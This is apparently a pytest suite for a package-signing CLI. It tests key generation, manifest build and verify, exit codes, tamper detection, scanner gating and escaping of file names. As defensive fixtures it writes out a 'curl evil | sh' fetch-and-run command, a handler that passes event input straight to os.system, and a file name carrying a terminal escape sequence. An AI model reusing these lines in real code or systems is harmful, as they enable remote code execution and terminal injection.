"""``sas keygen`` and ``sas manifest build|verify``: exit codes 0/1/2 and every problem named."""

from __future__ import annotations

import json
import stat
from pathlib import Path

import pytest

from sas.cli import main


def _package(root: Path) -> Path:
    pkg = root / "fn"
    pkg.mkdir()
    (pkg / "handler.py").write_text("import json\n\ndef handler(event, context):\n    return json.dumps({})\n")
    (pkg / "weights.npy").write_bytes(b"\x93NUMPY" + bytes(200))
    return pkg


@pytest.fixture
def signed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> tuple[Path, Path, Path]:
    pkg = _package(tmp_path)
    assert main(["keygen", "--out", str(tmp_path / "signer")]) == 0
    out = tmp_path / "fn.manifest.json"
    assert main(["manifest", "build", str(pkg), "--key", str(tmp_path / "signer.key"), "--out", str(out)]) == 0
    capsys.readouterr()
    return pkg, out, tmp_path / "signer.pub"


def test_keygen_writes_private_0600_and_public(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["keygen", "--out", str(tmp_path / "k")]) == 0
    assert stat.S_IMODE((tmp_path / "k.key").stat().st_mode) == 0o600
    assert b"PUBLIC KEY" in (tmp_path / "k.pub").read_bytes()
    assert "key id" in capsys.readouterr().out
    assert main(["keygen", "--out", str(tmp_path / "k")]) == 2  # never overwrites a key


def test_build_embeds_scan_summary(signed: tuple[Path, Path, Path]) -> None:
    _pkg, out, _pub = signed
    doc = json.loads(out.read_bytes())
    assert doc["scan"]["files"] == 2 and "by_severity" in doc["scan"]
    assert {f["path"] for f in doc["files"]} == {"handler.py", "weights.npy"}


def test_verify_ok_exits_0(signed: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    pkg, out, pub = signed
    assert main(["manifest", "verify", str(pkg), "--manifest", str(out), "--pub", str(pub)]) == 0
    assert capsys.readouterr().out.startswith("ok: 2 files")


@pytest.mark.parametrize(
    ("tamper", "expected"),
    [
        (lambda p: (p / "handler.py").write_text("import os\nos.system('curl evil | sh')\n"), "changed: handler.py"),
        (lambda p: (p / "sitecustomize.py").write_text("import os\n"), "added: sitecustomize.py"),
        (lambda p: (p / "weights.npy").unlink(), "removed: weights.npy"),
    ],
    ids=["change", "add", "remove"],
)
def test_verify_names_tampered_file_and_exits_1(
    signed: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str], tamper: object, expected: str
) -> None:
    pkg, out, pub = signed
    tamper(pkg)  # type: ignore[operator]
    assert main(["manifest", "verify", str(pkg), "--manifest", str(out), "--pub", str(pub)]) == 1
    captured = capsys.readouterr()
    assert expected in captured.out and "FAILED" in captured.err


def test_verify_other_key_exits_1(
    signed: tuple[Path, Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pkg, out, _pub = signed
    assert main(["keygen", "--out", str(tmp_path / "other")]) == 0
    assert main(["manifest", "verify", str(pkg), "--manifest", str(out), "--pub", str(tmp_path / "other.pub")]) == 1
    assert "bad signature" in capsys.readouterr().out


def test_verify_json_format(signed: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    pkg, out, pub = signed
    (pkg / "extra.bin").write_bytes(b"x")
    code = main(["manifest", "verify", str(pkg), "-m", str(out), "--pub", str(pub), "--format", "json"])
    doc = json.loads(capsys.readouterr().out)
    assert code == 1 and doc["added"] == ["extra.bin"] and doc["ok"] is False


def test_truncated_manifest_exits_2_with_one_line(
    signed: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    pkg, out, pub = signed
    out.write_bytes(out.read_bytes()[:-40])
    assert main(["manifest", "verify", str(pkg), "--manifest", str(out), "--pub", str(pub)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "not valid JSON" in err and "Traceback" not in err


def test_unusable_inputs_exit_2(signed: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    pkg, out, pub = signed
    assert main(["manifest", "verify", str(pkg / "nope"), "--manifest", str(out), "--pub", str(pub)]) == 2
    assert main(["manifest", "verify", str(pkg), "--manifest", str(out), "--pub", str(out)]) == 2
    assert main(["manifest", "build", str(pkg), "--key", str(pub)]) == 2  # a public key cannot sign
    assert main(["manifest"]) == 2
    assert "Traceback" not in capsys.readouterr().err


def test_manifest_written_inside_package_excludes_itself(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pkg = _package(tmp_path)
    assert main(["keygen", "--out", str(tmp_path / "s")]) == 0
    inside = pkg / "sas-manifest.json"
    args = ["manifest", "build", str(pkg), "--key", str(tmp_path / "s.key"), "--out", str(inside), "--no-scan"]
    assert main(args) == 0
    assert main(["manifest", "verify", str(pkg), "--manifest", str(inside), "--pub", str(tmp_path / "s.pub")]) == 0


def test_verify_finds_default_manifest(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pkg = _package(tmp_path)
    assert main(["keygen", "--out", str(tmp_path / "s")]) == 0
    assert main(["manifest", "build", str(pkg), "--key", str(tmp_path / "s.key"), "--no-scan"]) == 0
    assert (tmp_path / "fn.manifest.json").is_file()
    assert main(["manifest", "verify", str(pkg), "--pub", str(tmp_path / "s.pub")]) == 0
    (tmp_path / "fn.manifest.json").unlink()
    assert main(["manifest", "verify", str(pkg), "--pub", str(tmp_path / "s.pub")]) == 2
    assert "no manifest given" in capsys.readouterr().err


def test_build_refuses_to_sign_what_the_scan_fails(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pkg = _package(tmp_path)
    assert main(["keygen", "--out", str(tmp_path / "s")]) == 0
    key = str(tmp_path / "s.key")
    out = tmp_path / "m.json"
    assert main(["manifest", "build", str(pkg), "--key", key, "--out", str(out), "--fail-on", "high"]) == 0
    out.unlink()
    (pkg / "handler.py").write_text("import os\n\ndef handler(event, context):\n    os.system(event['cmd'])\n")
    assert main(["manifest", "build", str(pkg), "--key", key, "--out", str(out), "--fail-on", "high"]) == 1
    assert not out.exists() and "not signed" in capsys.readouterr().err
    assert main(["manifest", "build", str(pkg), "--key", key, "--fail-on", "severe"]) == 2


def test_cli_algorithm_choices_match_the_library() -> None:
    # the CLI spells them out so that parsing arguments does not import sas.integrity
    from sas import integrity
    from sas.cli import manifest as manifest_cli

    assert manifest_cli.ALGORITHMS == integrity.ALGORITHMS


def test_an_added_file_with_an_escape_sequence_in_its_name_is_shown_not_obeyed(
    signed: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    """The package's file names are the builder's choice: the report of an added one must not drive the terminal."""
    pkg, out, pub = signed
    (pkg / "\x1b]0;owned\x07x.py").write_text("print(1)\n")
    assert main(["manifest", "verify", str(pkg), "--manifest", str(out), "--pub", str(pub)]) == 1
    printed = capsys.readouterr().out
    assert "added: \\x1b]0;owned\\x07x.py" in printed and "\x1b" not in printed
